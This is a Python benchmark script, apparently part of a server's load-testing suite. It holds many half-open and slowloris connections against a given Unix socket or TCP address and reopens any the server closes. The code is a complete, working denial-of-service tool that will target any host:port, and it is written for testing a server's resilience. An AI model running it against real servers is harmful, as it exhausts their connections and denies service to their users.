"""An attacker process for scenario 7: many idle and slowloris connections to one server.

    python -m benchmarks.slowloris (--unix PATH | --tcp HOST:PORT) --count N [--trickle S]

Half the connections are half-open (connect, then never send a byte); the other half send an
HTTP request head one header line every `--trickle` seconds and never finish it. A connection
the server closes is opened again at once, so N stay open. Prints `ready` once all N are
connected, then a line per second: `open=N reconnects=N`. Runs until killed. Plain sockets and
`selectors` in its own process, so the attack costs the measuring client nothing.
"""

from __future__ import annotations

import argparse
import itertools
import selectors
import socket
import sys
import time

HEAD_START = b"GET / HTTP/1.1\r\nHost: localhost\r\nUpgrade: websocket\r\n"


def parse_args(argv: list[str] | None = None) -> argparse.Namespace:
    parser = argparse.ArgumentParser(allow_abbrev=False)
    where = parser.add_mutually_exclusive_group(required=True)
    where.add_argument("--unix")
    where.add_argument("--tcp")
    parser.add_argument("--count", type=int, default=2000)
    parser.add_argument("--trickle", type=float, default=1.0)
    return parser.parse_args(argv)


def main(argv: list[str] | None = None) -> int:
    options = parse_args(argv)
    if options.unix:
        family, address = socket.AF_UNIX, options.unix
    else:
        host, port = options.tcp.rsplit(":", 1)
        family, address = socket.AF_INET, (host, int(port))
    selector = selectors.DefaultSelector()
    #: socket -> (slowloris?, next header time)
    sockets: dict[socket.socket, list[float | bool]] = {}
    reconnects = 0
    counter = itertools.count()

    def open_one(slow: bool) -> None:
        sock = socket.socket(family, socket.SOCK_STREAM)
        sock.connect(address)
        sock.setblocking(False)
        if slow:
            sock.send(HEAD_START)
        selector.register(sock, selectors.EVENT_READ)
        sockets[sock] = [slow, time.monotonic() + options.trickle]

    for index in range(options.count):
        open_one(slow=index % 2 == 1)
    print("ready", flush=True)
    last_report = time.monotonic()
    while True:
        for key, _ in selector.select(timeout=0.05):
            sock = key.fileobj
            assert isinstance(sock, socket.socket)
            try:
                data = sock.recv(65536)
            except OSError:
                data = b""
            if not data:  # closed by the server (e.g. its head deadline): come back
                slow = bool(sockets.pop(sock)[0])
                selector.unregister(sock)
                sock.close()
                reconnects += 1
                open_one(slow)
        now = time.monotonic()
        for sock, state in sockets.items():
            if state[0] and now >= float(state[1]):
                state[1] = now + options.trickle
                try:
                    sock.send(b"X-Slow-%d: x\r\n" % next(counter))
                except OSError:
                    pass
        if now - last_report >= 1.0:
            last_report = now
            print(f"open={len(sockets)} reconnects={reconnects}", flush=True)


if __name__ == "__main__":
    try:
        sys.exit(main())
    except KeyboardInterrupt:
        sys.exit(0)
